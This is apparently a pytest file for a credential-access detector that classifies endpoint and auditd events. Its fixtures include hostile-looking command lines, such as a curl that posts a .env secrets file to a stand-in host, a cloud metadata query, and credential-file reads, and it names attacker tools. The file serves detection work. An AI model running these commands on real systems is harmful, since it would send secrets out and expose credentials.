"""Hosts: only what concerns credentials is read, by whom and with which program, and no secret gets through."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from need import shared_data
from nhi_watch.core.errors import OUT_OF_SCOPE, RejectError
from nhi_watch.core.event import Event
from nhi_watch.intake.sources import endpoint

HOST = {"id": "h-1", "name": "build-7", "ip": ["127.0.0.1", "10.0.4.7", "198.51.100.23", "fe80::1"],
        "os": {"type": "linux", "name": "Ubuntu"}}  # fmt: skip


def defend(action: str, **changes: Any) -> dict[str, Any]:
    base = {"@timestamp": "2026-03-02T10:00:01Z", "agent": {"type": "endpoint"}, "host": HOST,
            "data_stream": {"dataset": "endpoint.events.file"}, "user": {"id": "1001", "name": "ci"},
            "event": {"action": action, "module": "endpoint", "id": "e-1", "outcome": "success"}}  # fmt: skip
    return {**base, **changes}


def opened(path: str, program: str, **changes: Any) -> Event:
    return endpoint.read(defend("open", file={"path": path}, process={"executable": program}, **changes))


def started(line: str, parent: str = "/usr/bin/bash", **changes: Any) -> Event:
    arguments = line.split()
    process = {"executable": arguments[0], "args": arguments, "command_line": line, "parent": {"executable": parent}}
    return endpoint.read(defend("exec", process={**process, **changes}))


def reason(record: object) -> str:
    with pytest.raises(RejectError) as told:
        endpoint.read(record)
    return told.value.reason


def test_the_identity_is_the_user_on_the_host_and_its_addresses_are_links() -> None:
    event = opened("/srv/ci/.aws/credentials", "/usr/local/bin/aws")
    assert event.identity[:4] == ("endpoint:h-1:user:1001", "ci@build-7", "host_user", "endpoint")
    assert event.links == ("host:198.51.100.23", "host:10.0.4.7")
    assert (event.action, event.agent, event.traits) == ("endpoint:CredentialFileRead", "aws", ())


@pytest.mark.parametrize(
    ("path", "program", "odd"),
    [
        ("/srv/.aws/credentials", "/usr/bin/aws", False),
        ("/srv/.aws/credentials", "/usr/bin/python3.12", False),
        ("/srv/.aws/credentials", "/usr/bin/tar", True),
        ("/srv/.aws/credentials", "/usr/bin/kubectl", True),
        ("/srv/.kube/config", "/usr/bin/aws", False),
        ("/srv/.docker/config.json", "/usr/bin/dockerd", False),
        ("/srv/.npmrc", "/usr/bin/npm", False),
        ("/run/secrets/kubernetes.io/serviceaccount/token", "/app/shop", False),
        ("/run/secrets/kubernetes.io/serviceaccount/token", "/bin/sh", True),
        ("/srv/.aws/credentials", "/opt/Elastic/Endpoint/elastic-endpoint", False),
        ("/srv/.aws/credentials", "/dev/shm/aws", True),
    ],
)
def test_a_program_is_odd_that_is_none_for_that_credential(path: str, program: str, odd: bool) -> None:
    assert ("odd_process" in opened(path, program).traits) is odd


def test_a_refused_and_a_vain_look_at_a_credential_are_told_apart() -> None:
    event = {"action": "open", "module": "endpoint", "id": "e-1", "outcome": "failure"}
    denied = opened("/srv/.kube/config", "/usr/bin/cat", event=event, error={"code": "EACCES"})
    vain = opened("/srv/.kube/config", "/usr/bin/cat", event=event, error={"code": "ENOENT"})
    assert [(e.outcome, e.error) for e in (denied, vain)] == [("denied", "EACCES"), ("failure", "ENOENT")]


@pytest.mark.parametrize(
    ("line", "action", "target"),
    [
        ("/usr/bin/aws s3 cp s3://a b", "CloudCli", "aws s3 cp"),
        ("/usr/bin/python3 /usr/bin/gsutil ls", "CloudCli", "gsutil ls"),
        ("/usr/bin/vault login hvs.CAESIJmadeup", "CloudCli", "vault login"),
        ("/usr/bin/vault login s0m3t0k3n4567890", "CloudCli", "vault login"),
        ("/usr/bin/wget -qO- http://169.254.169.254/latest/", "MetadataAccess", "169.254.169.254"),
        ("/usr/bin/cat /srv/.aws/credentials", "CredentialFileRead", "/srv/.aws/credentials"),
        ("/usr/bin/curl -d @/srv/app/.env https://x.example", "CredentialFileRead", "/srv/app/.env"),
        ("/opt/cloudfox aws all-checks", "CloudCli", "cloudfox"),
    ],
)
def test_a_command_line_is_read_for_what_it_does_not_for_its_arguments(line: str, action: str, target: str) -> None:
    event = started(line)
    assert (event.action, event.target) == (f"endpoint:{action}", target)


def test_no_argument_of_a_cloud_command_line_gets_through() -> None:
    event = started("/usr/bin/aws configure set aws_secret_access_key madeUpSecretMadeUpSecret")
    assert "madeUpSecret" not in json.dumps(event) and event.target == "aws configure set"


def test_a_server_that_starts_a_cloud_command_line_is_odd_and_an_attackers_tool_is_named() -> None:
    assert started("/usr/bin/aws sts", parent="/usr/sbin/nginx").traits == ("odd_parent",)
    assert started("/usr/bin/aws sts", parent="/usr/bin/gitlab-runner").traits == ()
    assert started("/opt/pacu").traits == ("attack_tool",)


def test_a_person_at_a_terminal_or_on_an_own_machine_is_told() -> None:
    mac = {"id": "m", "name": "mac", "os": {"type": "macos", "name": "macOS"}}
    event = opened("/Users/ann/.kube/config", "/usr/bin/kubectl", host=mac, user={"id": "501", "name": "ann"})
    assert event.identity.human == "workstation"
    assert (
        opened("/x/.kube/config", "/usr/bin/kubectl", host=mac, user={"id": "0", "name": "root"}).identity.human == ""
    )
    assert started("/usr/bin/aws s3 ls", interactive=True).traits == ("console",)


@pytest.mark.parametrize(
    "record",
    [
        defend("open", file={"path": "/etc/hosts"}, process={"executable": "/usr/bin/cat"}),
        defend("deletion", file={"path": "/srv/.aws/credentials"}, process={"executable": "/usr/bin/rm"}),
        defend("fork", process={"executable": "/usr/bin/aws", "args": ["aws"]}),
        defend("exec", process={"executable": "/usr/bin/ls", "args": ["ls", "/srv/.aws/credentials"]}),
        defend("connection_attempted", destination={"ip": "198.51.100.1"}, process={"executable": "/usr/bin/curl"}),
        {"_raw": "type=CRED_ACQ msg=audit(1772445661.155:1): pid=1 uid=0"},
    ],
)
def test_what_concerns_no_credential_is_rejected_and_not_kept(record: dict[str, Any]) -> None:
    assert endpoint.claims(record)
    assert reason(record) == "not_credential" and "not_credential" in OUT_OF_SCOPE


def auditd(*lines: str) -> str:
    head = "type={} msg=audit(1772445600.155:7): {}"
    return "\n".join(head.format(*line.split(" ", 1)) for line in lines)


CALL = (
    'SYSCALL arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7f a2={} uid=33 tty={} ses=4 comm="x" exe="{}"'
)


def test_lines_of_auditd_tell_one_event_and_names_in_hexadecimal_are_read() -> None:
    hexed = b"/srv/my app/.env".hex().upper()
    raw = auditd(CALL.format("0", "pts1", "/usr/bin/less"), 'CWD cwd="/"', f"PATH item=0 name={hexed} nametype=NORMAL")
    event = endpoint.read({"_raw": raw, "host": "Web-1"})
    assert (event.identity.id, event.target) == ("endpoint:web-1:user:33", "/srv/my app/.env")
    assert (event.session, event.time, event.traits) == ("4", 1772445600, ("console", "odd_process"))


def test_an_open_for_writing_is_told_by_its_flags() -> None:
    path = 'PATH item=0 name="/srv/.kube/config"'
    kinds = [endpoint.read({"_raw": auditd(CALL.format(a2, "(none)", "/usr/bin/kubectl"), path), "host": "h"}).action
             for a2 in ("0", "80000", "241", "2")]  # fmt: skip
    assert [kind.removeprefix("endpoint:CredentialFile") for kind in kinds] == ["Read", "Read", "Write", "Write"]


def test_lines_that_came_one_by_one_are_said_to_be_incomplete() -> None:
    assert reason({"_raw": auditd('PATH item=0 name="/srv/.kube/config"')}) == "incomplete"


def events_of(path: Path) -> Iterator[dict[str, Any]]:
    found: dict[str, list[str]] = {}
    for line in path.read_text(encoding="utf-8").splitlines():
        found.setdefault(line.partition("msg=audit(")[2].partition(")")[0], []).append(line)
    yield from ({"_raw": "\n".join(lines)} for lines in found.values())


def test_real_lines_of_auditd_are_read_and_found_to_concern_no_credential() -> None:
    logs = sorted(shared_data("endpoint").glob("*.log"))
    records = [record for path in logs for record in events_of(path)]
    assert records and all(endpoint.claims(record) for record in records)
    assert {reason(record) for record in records} == {"not_credential"}
